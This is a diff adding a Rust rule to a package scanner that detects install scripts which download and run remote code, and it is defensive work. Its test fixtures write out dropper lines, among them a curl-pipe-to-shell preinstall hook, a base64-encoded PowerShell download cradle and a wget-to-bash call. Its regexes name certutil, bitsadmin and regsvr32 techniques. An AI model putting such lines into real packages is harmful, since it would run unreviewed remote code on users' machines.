@@ -1,0 +1,97 @@
+//! Rule `shell-download-exec`.
+
+use crate::decode;
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, code_files, find_text, is_doc_path};
+
+crate::declare_rule! {
+    /// Downloads code and runs it in one go: `curl … | sh`, `wget -O- … | bash`, PowerShell
+    /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
+    /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
+    /// downloads followed by execution, `regsvr32 /i:http`. Critical at install time.
+    id: "shell-download-exec",
+    category: Exec,
+    severity: High,
+    capability: Some(crate::model::Capability::ChildProcess),
+    title: "downloads and runs remote code",
+    incident: "curl|sh droppers in install scripts; DanaBot dropper in coa 2.0.3 (2021) via certutil and regsvr32",
+    case_file: "package.json",
+    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://cdn.example.net/i.sh | sh"}}"#,
+           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"}}"#,
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')"],
+    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`"],
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    let pipe = crate::regex!(
+        r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b"
+    );
+    let cradle = crate::regex!(
+        r"(?i)(iex|invoke-expression)\s*\(?\s*\(?\s*new-object\s+(system\.)?net\.webclient\)?\s*\.\s*download(string|file)|\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|\n]{0,200}\|\s*(iex|invoke-expression)\b|downloadstring\s*\([^)]*\)\s*\|\s*iex"
+    );
+    let enc = crate::regex!(
+        r"(?i)\b(powershell|pwsh)(\.exe)?\b[^\n]{0,200}\s-(e|ec|enc|encodedcommand)\s+([A-Za-z0-9+/=]{16,})"
+    );
+    let lolbin = crate::regex!(
+        r"(?i)certutil(\.exe)?\s+-urlcache\s+-split\s+-f\s+\S*https?:|bitsadmin\s+/transfer\b|regsvr32(\.exe)?\s+/s\s+/n?\s*/?u?\s*/i:https?:|mshta(\.exe)?\s+https?:"
+    );
+    let fetch_run = crate::regex!(
+        r"(?i)\b(curl|wget)\b[^\n;|]{0,200}(-o|-O|--output)\s*\S+[^\n]{0,120}(chmod\s+\+x|&&\s*\./|;\s*\./|\bstart\b|\bnohup\b)"
+    );
+    for f in code_files(pkg).chain(
+        pkg.files
+            .iter()
+            .filter(|f| f.kind == crate::package::FileKind::Text && f.path.ends_with(".bat")),
+    ) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let sev = if pkg.is_install_file(f) {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        let mut found = None;
+        for re in [pipe, cradle, lolbin, fetch_run] {
+            if let Some(m) = find_text(f, re).into_iter().next() {
+                found = Some(m);
+                break;
+            }
+        }
+        if found.is_none() && f.kind == crate::package::FileKind::Shell && f.script.is_none() {
+            // A script that downloads a file and then makes it executable or runs it.
+            let dl = crate::regex!(
+                r"(?i)\b(curl|wget|certutil(\.exe)?\s+-urlcache|bitsadmin|invoke-webrequest|iwr)\b[^\n]*(-o|-O|--output|-outfile|\s)\s*\S+"
+            );
+            let run = crate::regex!(
+                r"(?im)chmod\s+\+?[0-7]*x|^\s*\./\S+|\bstart\s+(/b\s+)?\S+\.exe|regsvr32|rundll32|\bnohup\b"
+            );
+            if let (Some(d), Some(_)) = (dl.find(&f.text), run.find(&f.text)) {
+                found = Some((d.start() as u32, d.as_str().to_string()));
+            }
+        }
+        if found.is_none() {
+            for (off, m) in find_text(f, enc) {
+                let b64 = m.rsplit(char::is_whitespace).next().unwrap_or("");
+                let decoded = decode::base64_bytes(b64)
+                    .and_then(|b| decode::printable(&b))
+                    .unwrap_or_default();
+                let low = decoded.to_ascii_lowercase();
+                if low.contains("download")
+                    || low.contains("iex")
+                    || low.contains("invoke-expression")
+                    || low.contains("http")
+                    || decoded.is_empty()
+                {
+                    found = Some((off, format!("{m} → {}", crate::package::one_line(&decoded))));
+                    break;
+                }
+            }
+        }
+        if let Some((off, m)) = found {
+            out.hit_ev(sev, pkg, f, off, "downloads code and runs it", m);
+        }
+    }
+}
